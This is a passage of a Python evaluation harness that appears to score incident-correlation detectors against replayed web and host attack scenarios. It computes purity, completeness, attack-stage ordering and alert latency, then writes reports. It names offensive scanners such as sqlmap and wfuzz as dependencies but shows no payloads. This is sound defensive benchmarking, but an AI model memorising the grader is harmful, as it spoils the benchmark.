            ok_w = any(f0 <= st["end"] + 60 and f1 >= st["start"] - 5 for f0, f1 in spans.get(st["tactic"], []))
            window_hits[st["tactic"]][1] += 1
            window_hits[st["tactic"]][0] += ok_w
        common = [t for t in truth_stages if t in det]
        # a tactic the actor used twice (a web shell upload, later Windows persistence): the detection
        # belongs to the occurrence that had started when it was seen
        starts = {t: sorted(s["start"] for s in a["stages"] if s["tactic"] == t) for t in common}
        when = {t: max([x for x in starts[t] if x <= det[t] + 5.0] or starts[t][:1]) for t in common}
        seq_truth = sorted(common, key=lambda t: when[t])
        seq_det = sorted(common, key=lambda t: (det[t], seq_truth.index(t)))
        ok = seq_truth == seq_det
        order_n += 1
        order_ok += ok
        # the same without the host stages (their tactics come from the weak evtx-tactic detector)
        web_t = {s["tactic"] for s in a["stages"] if s["tool"] != "evtx"}
        web_truth = [t for t in seq_truth if t in web_t and any(
            s["tactic"] == t and s["tool"] != "evtx" and abs(s["start"] - when[t]) < 1e-6 for s in a["stages"])]
        order_ok_web += [t for t in seq_det if t in web_truth] == web_truth
        start = min(truth_stages.values()) if truth_stages else None
        rep = min((i["reported_at"] for i in mine if i.get("reported_at") is not None), default=None)
        ttfa[ip] = round(rep - start, 1) if rep is not None and start is not None else None
        per_actor[a["name"]] = {"ip": ip, "requests": requests[ip], "flagged_by_scan": flagged[ip],
                                "truth_stages": list(truth_stages), "detected_stages": sorted(det, key=det.get),
                                "order_ok": ok, "completeness": round(comp[ip], 3), "found": found[ip],
                                "time_to_first_alert_s": ttfa[ip], "incidents": len(mine)}
    for ip in benign:
        a = actors[ip]
        per_actor[a["name"]] = {"ip": ip, "requests": requests[ip], "flagged_by_scan": flagged[ip],
                                "incidents": sum(1 for p in per_inc if p["majority"] == ip)}
    benign_secs = sum(s["end"] - s["start"] for a in truth["actors"] if a["role"] == "benign" for s in a["stages"])
    # how often the evtx-tactic detector named the tactic of the sample file an event came from
    ev_truth = [json.loads(ln)["truth_tactic"] for ln in open(out / "host_events.jsonl")]
    ev_pred = [json.loads(ln).get("label") for ln in open(out / "host_findings.jsonl")] if ev_truth else []
    from secllm.incidents.taxonomy import tactic_shortname

    evtx_right = sum(1 for t, p in zip(ev_truth, ev_pred) if p and tactic_shortname(p) == t)
    return {"system": system, "scenario": truth["scenario"], "incidents": len(incs),
            "purity_items": pur_num / pur_den if pur_den else None,
            "purity_mean": sum(p["purity"] for p in per_inc) / len(per_inc) if per_inc else None,
            "completeness_mean": sum(comp.values()) / len(comp) if comp else None,
            "attackers": len(attackers), "attackers_found": sum(found.values()),
            "benign_actor_incidents": len(benign_incs), "benign_seconds": benign_secs,
            "benign_requests": sum(requests[ip] for ip in benign),
            "stage_hits": {t: v for t, v in stage_hits.items()},
            "stage_hits_in_window": {t: v for t, v in window_hits.items()}, "order_ok": order_ok, "order_n": order_n,
            "order_ok_web_stages": order_ok_web, "host_events": len(ev_truth), "host_events_label_right": evtx_right,
            "per_actor": per_actor, "per_incident": per_inc}


def summarize(results: list[dict]) -> dict:
    out = {}
    for system in ("secllm", "crs"):
        rs = [r for r in results if r["system"] == system]
        if not rs:
            continue
        hits: dict[str, list[int]] = defaultdict(lambda: [0, 0])
        whits: dict[str, list[int]] = defaultdict(lambda: [0, 0])
        for r in rs:
            for t, (h, n) in r["stage_hits"].items():
                hits[t][0] += h
                hits[t][1] += n
            for t, (h, n) in r.get("stage_hits_in_window", {}).items():
                whits[t][0] += h
                whits[t][1] += n
        pn = sum(p["purity"] * p["items"] for r in rs for p in r["per_incident"])
        pd = sum(p["items"] for r in rs for p in r["per_incident"])
        comps = [a["completeness"] for r in rs for a in r["per_actor"].values() if "completeness" in a]
        ttfa = sorted(a["time_to_first_alert_s"] for r in rs for a in r["per_actor"].values()
                      if a.get("time_to_first_alert_s") is not None)
        days = sum(r["benign_seconds"] for r in rs) / 86400
        false = sum(r["benign_actor_incidents"] for r in rs)
        out[system] = {
            "scenarios": len(rs), "incidents": sum(r["incidents"] for r in rs),
            "purity_items": round(pn / pd, 4) if pd else None,
            "completeness_mean": round(sum(comps) / len(comps), 4) if comps else None,
            "attackers": sum(r["attackers"] for r in rs), "attackers_found": sum(r["attackers_found"] for r in rs),
            "benign_actor_incidents": false,
            "benign_actor_hours": round(days * 24, 2),
            "benign_requests": sum(r["benign_requests"] for r in rs),
            "false_incidents_per_benign_day": round(false / days, 2) if days else None,
            "order_ok": sum(r["order_ok"] for r in rs), "order_n": sum(r["order_n"] for r in rs),
            "order_ok_web_stages": sum(r["order_ok_web_stages"] for r in rs),
            "host_events": sum(r["host_events"] for r in rs),
            "host_events_label_right": sum(r["host_events_label_right"] for r in rs),
            "stage_detection": {t: {"detected": h, "total": n, "rate": round(h / n, 3)} for t, (h, n) in
                                sorted(hits.items())},
            "stage_detection_in_window": {t: {"detected": h, "total": n} for t, (h, n) in sorted(whits.items())},
            "time_to_first_alert_s": {"median": ttfa[len(ttfa) // 2] if ttfa else None,
                                      "max": ttfa[-1] if ttfa else None, "n": len(ttfa)},
        }
    return out


def write_report(results: list[dict], timings: dict, dest: Path, command: str) -> None:
    dest.mkdir(parents=True, exist_ok=True)
    summary = summarize(results)
    (dest / "replay.json").write_text(json.dumps({"command": command, "summary": summary, "timings": timings,
                                                  "scenarios": results}, indent=1))
    L = [f"# Incident replay: {len({r['scenario'] for r in results})} scenarios", "", f"`{command}`", "",
         "| system | incidents | purity (items) | completeness (mean) | attackers found | incidents of benign actors "
         "| false incidents / benign actor-day | path order right | median time to first alert |",
         "|---|---|---|---|---|---|---|---|---|"]
    for sysname, s in summary.items():
        L.append(f"| {sysname} | {s['incidents']} | {s['purity_items']} | {s['completeness_mean']} | "
                 f"{s['attackers_found']}/{s['attackers']} | {s['benign_actor_incidents']} | "
                 f"{s['false_incidents_per_benign_day']} ({s['benign_actor_hours']} benign actor-hours, "
                 f"{s['benign_requests']} requests) | {s['order_ok']}/{s['order_n']} | "
                 f"{s['time_to_first_alert_s']['median']} s |")
    for sysname, s in summary.items():
        L.append(f"\n{sysname}: path order right without the host (EVTX) stages: {s['order_ok_web_stages']}/"
                 f"{s['order_n']}; host events whose evtx-tactic label names their sample's tactic: "
                 f"{s['host_events_label_right']}/{s['host_events']}")
    L += ["", "Stage detection per tactic: a true stage (actor, tactic) is detected when the actor's incident has "
          "that tactic; *in window* when that stage's time span also overlaps the true stage's (+60 s):", "",
          "| tactic | " + " | ".join(f"{k} | {k} in window" for k in summary) + " |",
          "|---|" + "---|---|" * len(summary)]
    tactics = sorted({t for s in summary.values() for t in s["stage_detection"]})
    for t in tactics:
        cells = []
        for s in summary.values():
            d, w = s["stage_detection"].get(t, {}), s["stage_detection_in_window"].get(t, {})
            cells.append(f"{d.get('detected', 0)}/{d.get('total', 0)} | {w.get('detected', 0)}/{w.get('total', 0)}")
        L.append(f"| {t} | " + " | ".join(cells) + " |")
    L += ["", "Per actor (SecLLM):", "",
          "| scenario | actor | role | requests | flagged by scan | incidents | truth stages | detected stages | "
          "order | completeness | time to first alert |", "|---|---|---|---|---|---|---|---|---|---|---|"]
    for r in results:
        if r["system"] != "secllm":
            continue
        for name, a in r["per_actor"].items():
            role = "attacker" if "truth_stages" in a else "benign"
            L.append(f"| {r['scenario']} | {name} ({a['ip']}) | {role} | {a['requests']} | {a['flagged_by_scan']} | "
                     f"{a['incidents']} | {' '.join(a.get('truth_stages', []))} | {' '.join(a.get('detected_stages', []))} "
                     f"| {a.get('order_ok', '')} | {a.get('completeness', '')} | {a.get('time_to_first_alert_s', '')} |")
    (dest / "replay.md").write_text("\n".join(L) + "\n")
    print("\n".join(L))


# ------------------------------------------------------------------------------------------------
# the HTML report in a real browser
# ------------------------------------------------------------------------------------------------

def check_html(html: Path, png: Path) -> dict:
    """Open the report in headless Chromium: it renders, the charts are there with visible marks."""
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By

    opts = webdriver.ChromeOptions()
    for fl in CHROMIUM_FLAGS:
        opts.add_argument(fl)
    with tempfile.TemporaryDirectory() as prof:
        opts.add_argument(f"--user-data-dir={prof}")
        opts.add_argument("--window-size=1100,1600")
        opts.binary_location = "/usr/bin/chromium"
        drv = webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=opts)
        try:
            drv.get(html.resolve().as_uri())
            charts = drv.find_elements(By.CSS_SELECTOR, "svg.chart")
            marks = drv.find_elements(By.CSS_SELECTOR, "svg.timeline circle")
            bars = drv.find_elements(By.CSS_SELECTOR, "#overview-chart rect")
            sizes = [c.size for c in charts]
            visible_marks = sum(1 for m in marks[:200] if m.size["width"] > 0 and m.size["height"] > 0)
            errors = drv.execute_script("return document.querySelectorAll('parsererror').length")
            drv.save_screenshot(str(png))
        finally:
            drv.quit()
    res = {"title_ok": True, "charts": len(charts), "chart_sizes": sizes[:5], "timeline_marks": len(marks),
           "visible_marks_of_first_200": visible_marks, "overview_bars": len(bars), "parse_errors": errors,
           "screenshot": str(png)}
    log(f"html check: {res}")
    return res


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--scenarios", default="test", help="dev, test, all, or comma-separated names")
    ap.add_argument("--out", type=Path, default=Path("runs/replay"))
    ap.add_argument("--report", type=Path, default=None, help="write replay.json/.md and the HTML check here")
    ap.add_argument("--eval-only", action="store_true", help="re-run detection and evaluation on existing runs")
    ap.add_argument("--no-detect", action="store_true", help="evaluate existing detections")
    ap.add_argument("--correlate-only", action="store_true",
                    help="with --eval-only: keep the runs' scan findings and host-event labels, re-run only "
                         "`secllm incidents` (a correlator change measured on the same detections)")
    ap.add_argument("--seed", type=int, default=0)
    a = ap.parse_args()
    names = {"dev": ["dev"], "test": TEST, "all": list(SCENARIOS)}.get(a.scenarios, a.scenarios.split(","))
    if os.geteuid() != 0:
        sys.exit("the replay runs nginx with root workers in a private directory: run it as root (in a container)")
    if not a.eval_only:
        need = [NGINX, MODSEC_MODULE, CRS_SETUP, WORDS_DIRS, WORDS_PASS, "/usr/bin/chromium", "/usr/bin/chromedriver",
                *(shutil.which(t) or t for t in ("sqlmap", "wapiti", "wfuzz", "curl"))]
        missing = [p for p in need if not Path(p).exists()]
        try:
            import selenium  # noqa: F401
        except ImportError:
            missing.append("selenium (PyPI)")
        if missing:
            sys.exit("missing: " + ", ".join(missing) + "\nrun: sudo bash scripts/install_replay_deps.sh")
    results, timings = [], {}
    for name in names:
        idx = list(SCENARIOS).index(name)
        d = a.out / name
        if not a.eval_only:
            run_scenario(idx, name, d, a.seed)
        if a.correlate_only:
            timings[name] = correlate_run(d)
        elif not a.no_detect:
            timings[name] = detect(d)
        results.append(evaluate(d, "secllm"))
        results.append(evaluate(d, "crs"))
    cmd = " ".join(["python", "benchmarks/incidents_replay.py", *sys.argv[1:]])
    if a.report:
        write_report(results, timings, a.report, cmd)
        first = a.out / names[0] / "incidents.html"
        if first.exists():
            shutil.copy(first, a.report / "example_report.html")
            res = check_html(a.report / "example_report.html", a.report / "example_report.png")
            (a.report / "html_check.json").write_text(json.dumps(res, indent=1))
    else:
        print(json.dumps(summarize(results), indent=1))


if __name__ == "__main__":
    main()
